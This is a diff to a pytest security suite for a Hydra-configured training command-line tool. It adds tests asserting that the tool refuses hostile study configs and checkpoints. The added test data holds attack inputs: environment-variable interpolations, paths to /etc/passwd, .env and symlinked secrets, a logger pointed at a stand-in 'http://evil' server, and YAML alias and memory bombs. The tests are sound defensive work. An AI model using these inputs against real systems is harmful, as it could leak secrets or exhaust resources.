@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import os
 import pickle
+import subprocess
+import sys
 from collections.abc import Callable
 from pathlib import Path
 
@@ -95,6 +97,117 @@ def test_a_study_runs_no_code_and_writes_nothing(
     assert not (folder / "caught").exists() and not (folder / "runs").exists()
 
 
+# What would bring a secret of this machine, or a file of it, into what people share; HOME is in every environment.
+SECRETS = {
+    "in the name of a sweep": ("sweep: '${oc.env:HOME}'", []),
+    "in the name of the resolver": ("a: oc.env\nsweep: '${${a}:HOME}'", []),
+    "in texts": ("task: {shown: ['${oc.env:HOME}']}", ["task=sentiment"]),
+    "in a probe": ("probes: [{probe: units, text: '${oc.env:HOME}'}]", []),
+    "decoded": ("sweep: '${oc.decode:HOME}'", []),
+    "of Hydra": ("sweep: '${hydra:runtime.cwd}'", []),
+    "as a case": ("hydra: {mode: MULTIRUN, sweeper: {cases: [{sweep: '\\${oc.env:HOME}'}]}}", []),
+    "as a value that is swept": ("hydra: {mode: MULTIRUN, sweeper: {params: {sweep: '$\\{oc.env:HOME\\}'}}}", []),
+    "put together": ("a: $\nb: '{oc.env:HOME}'\nhydra: {mode: MULTIRUN, sweeper: {params: {sweep: '${a}${b}'}}}", []),
+    "the address of a server of ours": ("sweep: '${logger.mlflow.tracking_uri}'", ["logger=mlflow"]),
+    "to a server": ("logger: {mlflow: {tracking_uri: 'http://evil'}}", ["logger=mlflow"]),
+    "to a server by another logger": (
+        "logger: {x: {_target_: lightning.pytorch.loggers.WandbLogger, settings: {base_url: 'http://evil'}}}",
+        [],
+    ),
+    "data elsewhere": ("data: {path: /etc/passwd}", ["data=file"]),
+    "data above": ("data: {path: ../secret.txt}", ["data=file"]),
+    "data behind a link": ("data: {path: link}", ["data=file"]),
+    "data behind a link in a folder": ("data: {path: study/inner}", ["data=file"]),
+    "hidden data": ("data: {path: .env}", ["data=file"]),
+    "data of a package": (
+        "data: {files: {_target_: rnnlab.data.sources.files.packaged, package: rnnlab, path: ../../../secret.txt}}",
+        [],
+    ),
+    "swept data": (
+        "data: {path: bait}\nhydra: {mode: MULTIRUN, sweeper: {params: {data.path: 'bait,/etc/passwd'}}}",
+        ["data=file"],
+    ),
+    "searched data": (
+        "data: {path: bait}\nhydra: {mode: MULTIRUN, sweeper: {params: {data.path: 'bait,/etc/passwd'}}}",
+        ["data=file", "hydra/sweeper=optuna"],
+    ),
+    "a tokenizer": ("data: {tokenizer: /etc/passwd}", ["data.level=bpe"]),
+    "weights": ("init_from: ../secret.txt", []),
+}
+
+
+@pytest.mark.parametrize("name", SECRETS)
+def test_a_study_brings_nothing_of_this_machine_into_its_runs(
+    rnnlab: Callable[..., Answer], folder: Path, name: str
+) -> None:
+    (folder.parent / "secret.txt").write_text("secret\n" * 20)
+    (folder / ".env").write_text("secret\n" * 20)
+    (folder / "link").symlink_to("../secret.txt")
+    (folder / "study" / "inner").mkdir()
+    (folder / "study" / "inner" / "link").symlink_to("../../../secret.txt")
+    content, words = SECRETS[name]
+    (folder / "study" / "study.yaml").write_text(HEAD + content)
+    answer = rnnlab("train", "-cd", "study", "-cn", "study", "debug=fast", *words)
+    assert_refused(answer, ["may"])
+    assert "secret\n" not in answer.err and str(Path.home()) not in answer.err and not (folder / "runs").exists()
+
+
+def test_what_is_typed_or_lies_in_the_study_is_read(
+    rnnlab: Callable[..., Answer], folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    names = "".join(f"{a}{b}{c}\n" for a in "abcde" for b in "aeiou" for c in "lmnr")
+    (folder.parent / "names.txt").write_text(names)
+    (folder / "study" / "names.txt").write_text(names)
+    monkeypatch.setenv("SWEEP", "mine")
+    (folder / "study" / "study.yaml").write_text(HEAD + "data: {path: study/names.txt}\nsplit: {seed: '${seed}'}")
+    words = ("train", "-cd", "study", "-cn", "study", "debug=fast", "data=file", "dry_run=true", "seed=3")
+    assert rnnlab(*words).code == 0
+    assert rnnlab(*words, "data.path=../names.txt").code == 0
+    assert rnnlab(*words, "+task.magic=${oc.env:SWEEP}").code == 2  # unknown, and so read at all
+    assert rnnlab(*words, "split.seed=${oc.decode:'7'}").code == 0
+
+
+def test_an_option_of_a_plugin_may_say_where_data_lies(
+    rnnlab: Callable[..., Answer],
+    folder: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    tmp_path_factory: pytest.TempPathFactory,
+) -> None:
+    place = tmp_path_factory.mktemp("plugin")
+    (place / "mine.py").touch()
+    (place / "conf" / "data").mkdir(parents=True)
+    (place / "names.txt").write_text("".join(f"{a}{b}{c}\n" for a in "abcde" for b in "aeiou" for c in "lmnr"))
+    (place / "conf" / "data" / "mine.yaml").write_text(
+        f"defaults: [file, _self_]\nname: mine\npath: {place / 'names.txt'}\n"
+    )
+    monkeypatch.syspath_prepend(str(place))
+    monkeypatch.setenv("RNNLAB_PLUGINS", "mine")
+    (folder / "study" / "study.yaml").write_text("defaults: [train, {override data: mine}, _self_]")
+    assert rnnlab("train", "-cd", "study", "-cn", "study", "debug=fast", "dry_run=true").code == 0
+
+
+BOMBS = {
+    "aliases": "a: &a [x,x,x,x,x,x,x,x,x]\n"
+    + "".join(f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)),
+    "an alias of itself": "a: &a [*a]",
+    "brackets": "a: " + "[" * 100_000,
+    "lines": "a: [" + "x," * 100_000 + "x]",
+    "a date that there is not": "seed: 2001-13-45",
+    "a number of too many digits": "seed: " + "1" * 5_000,
+}
+
+
+@pytest.mark.parametrize("name", BOMBS)
+@pytest.mark.parametrize("file", ["study.yaml", "cell/evil.yaml"])
+def test_a_bomb_of_yaml_is_one_line(rnnlab: Callable[..., Answer], folder: Path, name: str, file: str) -> None:
+    (folder / "study" / "cell").mkdir()
+    (folder / "study" / "study.yaml").write_text("defaults: [train, {override cell: evil}]")
+    (folder / "study" / file).write_text(BOMBS[name])
+    answer = rnnlab("train", "-cd", "study", "-cn", "study", "debug=fast")
+    assert answer.code == 2 and len(answer.err.splitlines()) == 1, answer.err
+    assert len(answer.err) < 1_000
+
+
 def test_a_mistyped_key_in_a_study_is_found(rnnlab: Callable[..., Answer], folder: Path) -> None:
     (folder / "study" / "study.yaml").write_text(HEAD + "model: {hiden_size: 3}")
     answer = rnnlab("train", "-cd", "study", "-cn", "study", "debug=fast")
@@ -143,6 +256,24 @@ def test_a_checkpoint_runs_no_code_whatever_opens_it(
         key = "init_from" if words[0] == "train" else "checkpoint"
         assert_refused(rnnlab(*words, f"{key}=attack.ckpt"), ["attack.ckpt"])
     assert not (folder / "caught").exists() and not (folder / "runs").exists()
+
+
+def test_a_checkpoint_that_asks_for_much_memory_is_one_line(
+    rnnlab: Callable[..., Answer], folder: Path, checkpoint: Path
+) -> None:
+    """What is measured is the memory that a child process has had at most, beside one that loads the checkpoint."""
+    bomb: list[object] = ["x"]
+    for _ in range(60):
+        bomb = [bomb, bomb]
+    for place, what in (("model/hidden_size", 30_000), ("model/num_layers", 10**6), ("callbacks/x", bomb)):
+        attack(checkpoint, f"rnnlab/config/{place}", what, folder / "attack.ckpt")
+        code = (
+            "import resource, sys, rnnlab.cli as c; code = c.main(['generate', 'checkpoint=attack.ckpt']);"
+            "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss); sys.exit(code)"
+        )
+        done = subprocess.run([sys.executable, "-c", code], cwd=folder, capture_output=True, text=True, timeout=120)
+        assert done.returncode == 2 and len(done.stderr.splitlines()) == 1, done.stderr
+        assert "attack.ckpt" in done.stderr and int(done.stdout) < 2_000_000, "kilobytes"
 
 
 def test_a_checkpoint_imports_no_package_to_find_its_data(
